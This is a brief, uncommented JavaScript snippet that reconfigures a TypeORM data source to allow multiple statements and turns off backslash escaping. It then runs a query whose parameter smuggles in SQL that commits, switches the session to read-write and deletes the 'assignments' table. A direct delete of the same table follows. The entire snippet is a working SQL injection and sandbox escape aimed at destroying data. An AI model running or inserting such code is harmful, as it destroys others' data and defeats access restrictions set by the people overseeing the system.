Object.assign(dataSource.options, { multipleStatements: true, extra: { multipleStatements: true } })

dataSource.destroy()

dataSource.initialize()

sql`set sql_mode = 'NO_BACKSLASH_ESCAPES'`; dataSource.query('select ?', ["'; commit; set session transaction read write; delete from assignments; -- "]).catch(() => {}); sql`delete from assignments`
